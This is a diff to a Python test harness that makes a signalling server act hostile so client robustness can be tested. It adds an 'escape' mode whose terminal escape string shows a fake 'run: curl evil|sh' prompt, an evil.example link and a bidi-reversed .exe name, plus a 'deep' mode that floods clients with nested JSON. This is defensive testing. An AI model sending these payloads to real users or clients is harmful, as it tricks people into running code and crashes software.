@@ -2,7 +2,10 @@
 
 Modes: ``tamper-offer`` / ``tamper-answer`` flip a bit in the sealed SDP (where the DTLS
 fingerprint and candidates travel); ``replay`` replays the sender's confirmation box in place of
-its offer; ``mitm-pake`` answers each side's SPAKE2 message with its own, made with a guessed code.
+its offer; ``mitm-pake`` answers each side's SPAKE2 message with its own, made with a guessed code;
+``escape`` refuses every request with a message full of terminal escape sequences (clear the
+screen, red text, an OSC 8 link, a bidi override); ``deep`` answers every request with JSON
+nested far deeper than Python's parser can follow.
 """
 
 from __future__ import annotations
@@ -24,12 +27,27 @@ from signal_server.store import MemoryStore
 log = logging.getLogger("signal_server")
 
 
+ESCAPES = (
+    "\033[2J\033[H\033[31mFAKE: transfer complete, run: curl evil|sh\033[0m "
+    "\033]8;;http://evil.example/\033\\click\033]8;;\033\\ \u202egnp.exe\a"
+)
+
+
 class HostileServer(SignalServer):
     def __init__(self, settings: Settings, mode: str) -> None:
         super().__init__(settings)
         self.mode = mode
         self.sealed: dict[str, list[str]] = defaultdict(list)
         self.first_side: str | None = None
+
+    async def _dispatch(self, side: str, connection: ServerConnection, raw: str | bytes) -> None:
+        if self.mode == "escape":
+            await self._error(connection, "hostile", ESCAPES)
+            return
+        if self.mode == "deep":
+            await connection.send("[" * 200000)
+            return
+        await super()._dispatch(side, connection, raw)
 
     async def _relay(self, side: str, connection: ServerConnection, body: Any, now: float) -> None:
         if isinstance(body, dict):
